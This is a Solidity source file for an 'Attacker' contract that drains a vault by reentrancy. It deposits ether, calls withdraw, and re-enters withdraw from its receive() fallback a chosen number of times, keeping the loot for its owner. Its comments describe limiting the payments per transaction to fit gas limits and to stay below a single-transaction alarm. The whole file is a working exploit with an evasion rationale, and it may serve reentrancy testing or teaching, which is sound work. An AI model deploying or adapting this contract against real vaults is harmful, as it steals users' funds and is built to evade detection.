// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

/// Drains a vault through the hole in its `withdraw`, a bounded number of payments in each transaction, as real
/// attackers do who meet gas limits and want to stay below a single-transaction alarm.
contract Attacker {
    IVault public immutable vault;
    address public immutable owner;
    uint256 private payments;

    constructor(IVault vault_) {
        vault = vault_;
        owner = msg.sender;
    }

    /// Deposits the value sent and withdraws it `times` times over. What the vault reverts with passes through
    /// unchanged. The loot stays here.
    function attack(uint256 times) external payable {
        require(msg.sender == owner, "not the owner");
        payments = times - 1;
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (msg.sender == address(vault) && payments > 0) {
            payments -= 1;
            vault.withdraw();
        }
    }
}
